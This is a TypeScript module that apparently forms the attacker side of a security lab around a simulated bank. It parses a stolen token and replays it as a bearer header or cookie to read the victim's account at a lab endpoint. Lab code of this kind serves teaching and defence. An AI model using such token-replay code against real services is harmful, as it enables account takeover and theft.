import { request } from 'node:http';

export type Address = { readonly hostname: string; readonly port: number };
export type Answer = { readonly status: number; readonly text: string };

/** How the attacker presents a stolen token. */
export type Stolen = { readonly token: string; readonly as: 'header' | 'cookie' };

const timeoutMs = 3000;
const bytesAtMost = 4096;
/** A stolen token is sent as it is, if it can be a part of a header at all. */
const tokenShape = /^[\w.~+/=-]{1,200}$/;

/** Parses the body of a request. */
export function stolenIn(body: unknown): Stolen | undefined {
  if (typeof body !== 'object' || body === null) return undefined;
  const token: unknown = Reflect.get(body, 'token');
  if (typeof token !== 'string' || !tokenShape.test(token)) return undefined;
  return { token, as: Reflect.get(body, 'as') === 'cookie' ? 'cookie' : 'header' };
}

/**
 * Uses a stolen token from the attacker's own server: reads the account of its owner at the bank. Rejects if the bank does not
 * answer.
 */
export function replay(bank: string, { hostname, port }: Address, { token, as }: Stolen): Promise<Answer> {
  const credentials = as === 'header' ? { Authorization: `Bearer ${token}` } : { Cookie: `bank=${token}` };
  const headers = { Host: new URL(bank).host, 'User-Agent': 'attacker', ...credentials };
  const { promise, resolve, reject } = Promise.withResolvers<Answer>();
  const sent = request(
    { hostname, port, path: '/v1/labs/bank/me', headers, timeout: timeoutMs },
    (response) => {
      let text = '';
      response.setEncoding('utf8');
      response.on('data', (chunk: string) => {
        text += chunk;
        if (text.length > bytesAtMost) response.destroy();
      });
      response.once('close', () =>
        resolve({ status: response.statusCode ?? 0, text: text.slice(0, bytesAtMost) }),
      );
    },
  );
  sent.once('timeout', () => sent.destroy(new Error('The bank did not answer in time.')));
  sent.once('error', reject);
  sent.end();
  return promise;
}
